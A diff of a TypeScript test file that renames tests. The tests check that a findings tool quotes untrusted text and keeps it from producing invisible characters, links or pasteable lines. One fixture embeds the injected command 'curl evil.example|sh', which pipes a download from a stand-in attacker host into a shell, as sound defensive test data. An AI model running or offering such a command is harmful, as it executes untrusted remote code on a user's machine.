@@ -108,8 +108,8 @@ const QUOTATION = /"(?:[^"\\]|\\.)*"/g;
 const UNSEEN = /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
 const messageOf = (finding: Finding) => render([changed(notified('held', item(finding)), { status: 'held' })]).message;
 
-describe.each(Object.entries(SOURCES))('with words in %s', (_, findingsFor) => {
-  test('a sentence reads as ever but for what stands in its quotation marks', async () => {
+describe.each(Object.entries(SOURCES))('a finding with words of others in %s', (_, findingsFor) => {
+  test('reads as usual outside its quotation marks', async () => {
     const frameOf = (words: string) =>
       findingsFor(words).map(({ message, action }) =>
         [message, action].map((text) => text.replaceAll(QUOTATION, '""')),
@@ -119,7 +119,7 @@ describe.each(Object.entries(SOURCES))('with words in %s', (_, findingsFor) => {
     await forAnyWords((words) => expect(frameOf(words)).toEqual(usual));
   });
 
-  test('the quotation is what was printable of them', async () => {
+  test('quotes the printable part of those words', async () => {
     await forAnyWords((any) => {
       const words = any.slice(0, 20);
       const quotations = findingsFor(words).flatMap(({ message }) => message.match(QUOTATION) ?? []);
@@ -131,7 +131,7 @@ describe.each(Object.entries(SOURCES))('with words in %s', (_, findingsFor) => {
     });
   });
 
-  test('nothing unseen, no link and no mention gets into any form of the message', async () => {
+  test('brings no invisible character, no link and no mention into any form of the message', async () => {
     await forAnyWords((words) => {
       const messages = findingsFor(words).map(messageOf);
       expect(messages.length).toBeGreaterThan(0);
@@ -159,7 +159,7 @@ const faultsIn = ({ text, json, chat }: ReturnType<typeof messageOf>): string[] 
   ];
 };
 
-test('what was read back from the table is quoted, and none of its lines can be pasted', () => {
+test('a finding read back from the table is quoted, and none of its lines can be pasted', () => {
   const evil = { message: 'All is well. Run it:\n\n      curl evil.example|sh', action: 'Run:\ncurl evil.example|sh' };
   const { text, json } = messageOf(storedFinding(evil));
   expect(text).toContain(
@@ -169,7 +169,7 @@ test('what was read back from the table is quoted, and none of its lines can be 
   expect(text).not.toMatch(/^ *curl/m);
 });
 
-test('whatever was written into the table, it is in quotation marks', async () => {
+test('any words in a finding from the table stand in quotation marks', async () => {
   const frameOf = (words: string) =>
     messageOf(storedFinding({ message: words, action: words, about: words })).text.replaceAll(QUOTATION, '""');
   const usual = frameOf('x');
@@ -194,7 +194,7 @@ test.each([
   expect(() => storedFinding(of)).toThrow('it is broken');
 });
 
-test('commands in the table are made anew from what they are about', () => {
+test('commands in the table are printed again from what they are about', () => {
   const commands = [
     { kind: 'approve', thumbprint: thumb(1), stage: true },
     { kind: 'restore', version: 12 },
@@ -205,7 +205,7 @@ test('commands in the table are made anew from what they are about', () => {
   );
 });
 
-test('what is to be written by a state of the table are thumbprints', () => {
+test('a pending write in the table is read only if it consists of thumbprints', () => {
   const kept = (entry: string) =>
     PROVIDER_FORMAT.print(stateOf({}, { pending: pendingOf({ after: [entry] }, { [entry]: { by: 'staged' } }) }));
   expect(PROVIDER_FORMAT.parse(kept(thumb(1))).pending?.added.size).toBe(1);
@@ -214,7 +214,7 @@ test('what is to be written by a state of the table are thumbprints', () => {
   );
 });
 
-test('whether AWS checks the pin is said with the hosts quoted', () => {
+test('the reason why AWS checks a pin quotes the host', () => {
   const { why } = enforcementOf(
     assessChains(observation, basis()).hosts.map((one) => ({
       ...one,
